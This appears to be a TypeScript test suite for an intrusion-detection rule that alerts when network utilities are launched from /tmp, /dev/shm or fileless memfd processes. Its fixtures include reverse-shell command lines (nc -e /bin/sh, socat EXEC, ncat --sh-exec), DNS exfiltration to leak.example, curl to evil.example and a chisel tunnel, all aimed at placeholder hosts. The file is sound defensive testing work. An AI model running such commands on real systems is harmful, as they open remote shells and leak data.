import { describe, expect, it } from "vitest";
import type { ExecEvent } from "../../lib/telemetry/exec-event.js";
import { detect, exec, shell } from "../helpers/exec-events.js";

/**
 * DESIGN §4, point by point, through the real batch pipeline (lineage + rule + dedup), one tree per case.
 * The last event of each tree is the one under test.
 */
type Expect =
  | { alert: { utility: string; path: string; kind: string; depth: number; severity?: string } }
  | { none: true }
  | { suppressed: "loopback" | "allowlist" | "benign-location" };

const nslookupFrom = (parentPid: number, extra: Partial<Parameters<typeof exec>[0]> = {}) =>
  exec({
    pid: 300,
    ppid: parentPid,
    exe: "/usr/bin/nslookup",
    args: ["nslookup", "data.leak.example", "192.0.2.53"],
    ...extra,
  });

const cases: { name: string; tree: () => ExecEvent[]; expect: Expect }[] = [
  {
    name: "shebang script: the kernel runs /tmp/x.sh as /bin/sh /tmp/x.sh",
    tree: () => [
      shell(),
      exec({
        pid: 200,
        ppid: 100,
        exe: "/usr/bin/dash",
        args: ["/bin/sh", "/tmp/x.sh"],
        invoked: "/tmp/x.sh",
      }),
      nslookupFrom(200),
    ],
    expect: { alert: { utility: "nslookup", path: "/tmp/x.sh", kind: "script", depth: 1, severity: "high" } },
  },
  {
    name: "script handed to an interpreter: sh /tmp/x (no shebang exec, Datadog misses it)",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/bash", args: ["sh", "/tmp/x"] }),
      nslookupFrom(200),
    ],
    expect: { alert: { utility: "nslookup", path: "/tmp/x", kind: "script", depth: 1 } },
  },
  {
    name: "relative script resolved against the interpreter's cwd: cd /tmp && bash ./x",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/bash", args: ["bash", "-x", "./x"], cwd: "/tmp" }),
      nslookupFrom(200),
    ],
    expect: { alert: { utility: "nslookup", path: "/tmp/x", kind: "script", depth: 1 } },
  },
  {
    name: "python with options before the script",
    tree: () => [
      shell(),
      exec({
        pid: 200,
        ppid: 100,
        exe: "/usr/bin/python3.11",
        args: ["python3", "-u", "-W", "ignore", "/dev/shm/p.py"],
      }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/x"] }),
    ],
    expect: { alert: { utility: "curl", path: "/dev/shm/p.py", kind: "script", depth: 1 } },
  },
  {
    name: "inline code is not a script: bash -c 'dig …' from a clean shell",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/bash", args: ["bash", "-c", "dig /tmp/x"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/dig", args: ["dig", "example.org"] }),
    ],
    expect: { none: true },
  },
  {
    name: "exec chain: a /tmp script that execs nc (same pid, no fork)",
    tree: () => [
      shell(),
      exec({
        pid: 200,
        ppid: 100,
        exe: "/usr/bin/dash",
        args: ["/bin/sh", "/tmp/x.sh"],
        script: "/tmp/x.sh",
      }),
      exec({
        pid: 200,
        ppid: 100,
        exe: "/usr/bin/nc.openbsd",
        args: ["nc", "192.0.2.1", "4444"],
        invoked: "/usr/bin/nc",
      }),
    ],
    expect: { alert: { utility: "nc", path: "/tmp/x.sh", kind: "exec-chain", depth: 0 } },
  },
  {
    name: "exec chain: a loader that replaces itself twice before running curl",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/dev/shm/ld", args: ["/dev/shm/ld"] }),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/env", args: ["env", "bash"] }),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/bash", args: ["bash", "-c", "curl http://192.0.2.1"] }),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1"] }),
    ],
    expect: {
      alert: { utility: "curl", path: "/dev/shm/ld", kind: "exec-chain", depth: 0, severity: "high" },
    },
  },
  {
    name: "busybox applet in argv[1]: busybox nc from a /tmp binary",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/.k", args: ["/tmp/.k"] }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/bin/busybox",
        args: ["busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"],
      }),
    ],
    expect: { alert: { utility: "nc", path: "/tmp/.k", kind: "ancestor", depth: 1, severity: "critical" } },
  },
  {
    name: "busybox applet in argv[0] (symlink wget -> busybox)",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/var/tmp/run", args: ["/var/tmp/run"] }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/bin/busybox",
        args: ["wget", "http://192.0.2.1/a"],
        invoked: "/usr/bin/wget",
      }),
    ],
    expect: { alert: { utility: "wget", path: "/var/tmp/run", kind: "ancestor", depth: 1 } },
  },
  {
    name: "a utility binary copied into /tmp",
    tree: () => [
      shell(),
      exec({ pid: 300, ppid: 100, exe: "/tmp/nc", args: ["/tmp/nc", "192.0.2.1", "443"] }),
    ],
    expect: { alert: { utility: "nc", path: "/tmp/nc", kind: "self", depth: 0 } },
  },
  {
    name: "a deleted image is fileless (critical)",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/lib/x/agent (deleted)", args: ["agent"] }),
      nslookupFrom(200),
    ],
    expect: {
      alert: {
        utility: "nslookup",
        path: "/usr/lib/x/agent (deleted)",
        kind: "ancestor",
        depth: 1,
        severity: "critical",
      },
    },
  },
  {
    name: "memfd loader is fileless",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "memfd:x (deleted)", args: ["x"] }),
      nslookupFrom(200),
    ],
    expect: {
      alert: {
        utility: "nslookup",
        path: "memfd:x (deleted)",
        kind: "ancestor",
        depth: 1,
        severity: "critical",
      },
    },
  },
  {
    name: "/tmpx is not /tmp (directory boundary)",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmpx/a", args: ["/tmpx/a"] }),
      nslookupFrom(200),
    ],
    expect: { none: true },
  },
  {
    name: "/usr/../tmp/x is /tmp/x (normalisation defeats .. evasion)",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/../tmp//x", args: ["x"] }),
      nslookupFrom(200),
    ],
    expect: { alert: { utility: "nslookup", path: "/tmp/x", kind: "ancestor", depth: 1 } },
  },
  {
    name: "ncdu is not nc",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/x", args: ["/tmp/x"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/ncdu", args: ["ncdu"] }),
    ],
    expect: { none: true },
  },
  {
    name: "which nc is not running nc",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/x", args: ["/tmp/x"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/which", args: ["which", "nc"] }),
    ],
    expect: { none: true },
  },
  {
    name: "openssl is a network utility only as s_client/s_server",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/x", args: ["/tmp/x"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/openssl", args: ["openssl", "sha256", "/etc/passwd"] }),
    ],
    expect: { none: true },
  },
  {
    name: "openssl s_client to a remote host",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/x", args: ["/tmp/x"] }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/openssl",
        args: ["openssl", "s_client", "-connect", "192.0.2.1:443"],
      }),
    ],
    expect: { alert: { utility: "openssl", path: "/tmp/x", kind: "ancestor", depth: 1 } },
  },
  {
    name: "loopback-only target excepted: wget http://localhost:9/ from a /tmp script",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: ["/bin/sh", "/tmp/check.sh"] }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/wget",
        args: ["wget", "-q", "-T", "1", "http://localhost:9/", "-O", "/dev/null"],
      }),
    ],
    expect: { suppressed: "loopback" },
  },
  {
    name: "localhost inside a remote URL's query is not excepted",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: ["/bin/sh", "/tmp/x.sh"] }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/curl",
        args: ["curl", "http://evil.example/?host=localhost"],
      }),
    ],
    expect: { alert: { utility: "curl", path: "/tmp/x.sh", kind: "script", depth: 1 } },
  },
  {
    name: "a DNS name sent to a loopback resolver is not excepted",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: ["/bin/sh", "/tmp/x.sh"] }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/dig",
        args: ["dig", "@127.0.0.1", "c2VjcmV0.leak.example", "TXT"],
      }),
    ],
    expect: { alert: { utility: "dig", path: "/tmp/x.sh", kind: "script", depth: 1 } },
  },
  {
    name: "the working directory alone is not a location",
    tree: () => [
      shell({ cwd: "/tmp" }),
      exec({ pid: 300, ppid: 100, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"], cwd: "/tmp" }),
    ],
    expect: { none: true },
  },
  {
    name: "a clean lineage does not alert",
    tree: () => [
      shell(),
      exec({ pid: 300, ppid: 100, exe: "/usr/bin/curl", args: ["curl", "https://example.org/"] }),
    ],
    expect: { none: true },
  },
  {
    name: "runc's cloned memfd binary in a container's exec chain is benign by default",
    tree: () => [
      shell(),
      exec({
        pid: 200,
        ppid: 100,
        exe: "/memfd:runc_cloned:/proc/self/exe (deleted)",
        args: ["runc", "init"],
      }),
      exec({ pid: 200, ppid: 100, exe: "/usr/local/bin/node", args: ["node", "server.js"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ],
    expect: { suppressed: "benign-location" },
  },
  {
    name: "another memfd image as the kernel shows it (/memfd:NAME (deleted)) is fileless",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/memfd:x (deleted)", args: ["x"] }),
      nslookupFrom(200),
    ],
    expect: {
      alert: {
        utility: "nslookup",
        path: "/memfd:x (deleted)",
        kind: "ancestor",
        depth: 1,
        severity: "critical",
      },
    },
  },
  {
    name: "default benign build location: go test binaries",
    tree: () => [
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/go-build123/b001/pkg.test", args: ["pkg.test"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ],
    expect: { suppressed: "benign-location" },
  },
];

describe("rule semantics (DESIGN §4)", () => {
  it.each(cases)("$name", async ({ tree, expect: want }) => {
    const { alerts, counters } = await detect(tree());
    if ("none" in want) {
      expect(alerts).toEqual([]);
      expect(counters.suppressed).toEqual({ loopback: 0, allowlist: 0, "benign-location": 0, dedup: 0 });
    } else if ("suppressed" in want) {
      expect(alerts).toEqual([]);
      expect(counters.suppressed[want.suppressed]).toBe(1);
    } else {
      expect(alerts).toHaveLength(1);
      const alert = alerts[0]!;
      expect(alert.utility.name).toBe(want.alert.utility);
      expect(alert.location).toMatchObject({
        path: want.alert.path,
        kind: want.alert.kind,
        depth: want.alert.depth,
      });
      if (want.alert.severity) expect(alert.severity).toBe(want.alert.severity);
    }
  });
});

describe("depth cap", () => {
  /** A chain of `depth` clean bash processes under a /tmp binary; the utility is at the bottom. */
  const chainWithTmpAt = (depth: number) => {
    const events = [exec({ pid: 1000, ppid: 1, exe: "/tmp/root", args: ["/tmp/root"] })];
    for (let i = 1; i < depth; i++)
      events.push(exec({ pid: 1000 + i, ppid: 1000 + i - 1, exe: "/usr/bin/bash", args: ["bash"] }));
    events.push(
      exec({ pid: 5000, ppid: 1000 + depth - 1, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    );
    return events;
  };

  it("finds a location at depth 16", async () => {
    const { alerts } = await detect(chainWithTmpAt(16));
    expect(alerts.map((a) => [a.location.path, a.location.depth])).toEqual([["/tmp/root", 16]]);
  });

  it("does not look past depth 16", async () => {
    const { alerts } = await detect(chainWithTmpAt(17));
    expect(alerts).toEqual([]);
  });
});

describe("PID reuse", () => {
  it("a record newer than the child's own start is not its parent", async () => {
    const t = 1_700_000_000_000;
    const { alerts } = await detect([
      // The child started at t+5 under pid 200; pid 200 was later (t+8) reused by a /tmp binary.
      exec({ pid: 200, ppid: 1, exe: "/tmp/evil", args: ["/tmp/evil"], time: t + 8 }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/curl",
        args: ["curl", "http://192.0.2.1/"],
        time: t + 10,
        start: t + 5,
      }),
    ]);
    expect(alerts).toEqual([]);
  });

  it("the same parent record is used when it is older than the child's start", async () => {
    const t = 1_700_000_000_000;
    const { alerts } = await detect([
      exec({ pid: 200, ppid: 1, exe: "/tmp/evil", args: ["/tmp/evil"], time: t + 1 }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/curl",
        args: ["curl", "http://192.0.2.1/"],
        time: t + 10,
        start: t + 5,
      }),
    ]);
    expect(alerts.map((a) => a.location.path)).toEqual(["/tmp/evil"]);
  });

  const inSession = (spec: Parameters<typeof exec>[0], sessionId: string) => {
    const event = exec(spec);
    event.process.sessionId = sessionId;
    return event;
  };

  it("a parent record from another login session is an earlier holder of the pid (auditd has no fork time)", async () => {
    const { alerts } = await detect([
      inSession({ pid: 200, ppid: 1, exe: "/tmp/healthcheck", args: ["/tmp/healthcheck"] }, "12"),
      inSession({ pid: 300, ppid: 200, exe: "/usr/bin/dig", args: ["dig", "x.example"] }, "57"),
    ]);
    expect(alerts).toEqual([]);
  });

  it("an exec chain across login sessions is not one process", async () => {
    const { alerts } = await detect([
      inSession({ pid: 200, ppid: 100, exe: "/tmp/x", args: ["/tmp/x"] }, "12"),
      inSession({ pid: 200, ppid: 100, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }, "57"),
    ]);
    expect(alerts).toEqual([]);
  });

  it("an unset session may become a login session (sshd's child at login keeps its record)", async () => {
    const { alerts } = await detect([
      inSession({ pid: 200, ppid: 1, exe: "/dev/shm/sshd", args: ["sshd"] }, "4294967295"),
      inSession({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }, "57"),
    ]);
    expect(alerts.map((a) => a.location.path)).toEqual(["/dev/shm/sshd"]);
  });

  it("an earlier holder of the pid under another parent is not an earlier image", async () => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 1, exe: "/tmp/old", args: ["/tmp/old"] }),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ]);
    expect(alerts).toEqual([]);
  });
});

describe("tiers and severity", () => {
  const tiers = [
    { path: "memfd:a", tier: "fileless", severity: "critical" },
    { path: "/proc/self/fd/3", tier: "fileless", severity: "critical" },
    { path: "/tmp/a", tier: "temp", severity: "high" },
    { path: "/var/tmp/a", tier: "temp", severity: "high" },
    { path: "/dev/shm/a", tier: "shm", severity: "high" },
    { path: "/run/shm/a", tier: "shm", severity: "high" },
    { path: "/dev/mqueue/a", tier: "shm", severity: "high" },
    { path: "/run/user/1000/a", tier: "runtime", severity: "medium" },
    { path: "/run/lock/a", tier: "runtime", severity: "medium" },
    { path: "/var/lock/a", tier: "runtime", severity: "medium" },
    { path: "/var/www/html/up/a.php", tier: "web", severity: "medium" },
    { path: "/home/alice/a", tier: "home", severity: "low" },
  ];

  it.each(tiers)("$path is tier $tier, severity $severity", async ({ path, tier, severity }) => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 100, exe: path, args: [path] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ]);
    expect(alerts.map((a) => [a.location.tier, a.severity])).toEqual([[tier, severity]]);
  });

  // One file, one name: the old spellings of /run, /run/lock and /var/tmp are classified (and shown) as the
  // directories they link to; an alias counts only as a whole directory name.
  const aliases = [
    { path: "/var/run/user/1000/x", tier: "runtime", shown: "/run/user/1000/x" },
    { path: "/var/lock/x", tier: "runtime", shown: "/run/lock/x" },
    { path: "/usr/tmp/x", tier: "temp", shown: "/var/tmp/x" },
    { path: "/usr/../var/run/user/0/x", tier: "runtime", shown: "/run/user/0/x" },
    { path: "/var/run/../dev/shm/x", tier: "shm", shown: "/dev/shm/x" },
    { path: "/var/run/user/1000/x (deleted)", tier: "fileless", shown: "/run/user/1000/x (deleted)" },
    { path: "/var/runx/y", tier: undefined, shown: undefined },
    { path: "/var/lockx/y", tier: undefined, shown: undefined },
    { path: "/usr/tmpx/y", tier: undefined, shown: undefined },
    { path: "/var/run/y", tier: undefined, shown: undefined },
  ];
  it.each(aliases)("$path is tier $tier, shown as $shown", async ({ path, tier, shown }) => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 100, exe: path, args: [path] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ]);
    expect(alerts.map((a) => [a.location.tier, a.location.path])).toEqual(tier ? [[tier, shown]] : []);
  });

  it.each([
    ["/var/run/user/1000/x.sh", "/run/user/1000/x.sh"],
    ["/usr/tmp/x.sh", "/var/tmp/x.sh"],
  ])("a script at %s is found as %s", async (script, shown) => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: ["sh", script] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ]);
    expect(alerts.map((a) => [a.location.kind, a.location.path])).toEqual([["script", shown]]);
  });

  it("/root is not a location by default (only root can write it)", async () => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/root/a", args: ["/root/a"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ]);
    expect(alerts).toEqual([]);
  });

  const raised = [
    {
      name: "nc -e raises high to critical",
      tool: ["/usr/bin/nc", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"],
      from: "/tmp/a",
      severity: "critical",
    },
    {
      name: "socat EXEC: raises low to medium",
      tool: ["/usr/bin/socat", "socat", "TCP:192.0.2.1:4444", "EXEC:/bin/sh"],
      from: "/home/u/a",
      severity: "medium",
    },
    {
      name: "critical stays critical",
      tool: ["/usr/bin/ncat", "ncat", "--sh-exec", "sh", "192.0.2.1"],
      from: "memfd:z",
      severity: "critical",
    },
    {
      name: "telnet -e is an escape character, not an exec flag",
      tool: ["/usr/bin/telnet", "telnet", "-e", "^]", "192.0.2.1"],
      from: "/home/u/a",
      severity: "low",
    },
  ];
  it.each(raised)("$name", async ({ tool, from, severity }) => {
    const [exe, ...args] = tool as [string, ...string[]];
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 100, exe: from, args: [from] }),
      exec({ pid: 300, ppid: 200, exe, args }),
    ]);
    expect(alerts.map((a) => a.severity)).toEqual([severity]);
    expect(alerts[0]!.attack.some((t) => t.id === "T1059.004")).toBe(severity !== "low");
  });

  it("inside a container a low-tier match is at least medium", async () => {
    const container = { id: "c0ffee", image: "nginx:1.27" };
    const { alerts } = await detect([
      shell({ container }),
      exec({ pid: 200, ppid: 100, exe: "/home/u/a", args: ["/home/u/a"], container }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"], container }),
    ]);
    expect(alerts.map((a) => [a.location.tier, a.severity])).toEqual([["home", "medium"]]);
  });

  it("severity takes the most severe matching tier, location the nearest", async () => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 150, ppid: 100, exe: "/dev/shm/x", args: ["/dev/shm/x"] }),
      exec({ pid: 200, ppid: 150, exe: "/home/u/b", args: ["/home/u/b"] }),
      exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.1/"] }),
    ]);
    expect(alerts[0]!.location).toMatchObject({ path: "/home/u/b", depth: 1 });
    expect(alerts[0]!.matches.map((m) => [m.path, m.depth])).toEqual([
      ["/home/u/b", 1],
      ["/dev/shm/x", 2],
    ]);
    expect(alerts[0]!.severity).toBe("high");
  });

  it.each([
    ["dns", "/usr/bin/dig", ["dig", "x.example"], "T1071.004"],
    ["socket", "/usr/bin/socat", ["socat", "-", "TCP:192.0.2.1:1"], "T1095"],
    ["transfer", "/usr/bin/wget", ["wget", "http://192.0.2.1/"], "T1105"],
    ["scan", "/usr/bin/nmap", ["nmap", "192.0.2.0/24"], "T1046"],
    ["sniff", "/usr/sbin/tcpdump", ["tcpdump", "-i", "any"], "T1040"],
    ["tunnel", "/tmp/chisel", ["chisel", "client", "192.0.2.1:8080", "R:socks"], "T1572"],
  ])("category %s maps to ATT&CK", async (category, exe, args, technique) => {
    const { alerts } = await detect([
      shell(),
      exec({ pid: 200, ppid: 100, exe: "/tmp/a", args: ["/tmp/a"] }),
      exec({ pid: 300, ppid: 200, exe, args }),
    ]);
    expect(alerts[0]!.utility.category).toBe(category);
    expect(alerts[0]!.attack.map((t) => t.id)).toEqual([technique]);
  });
});
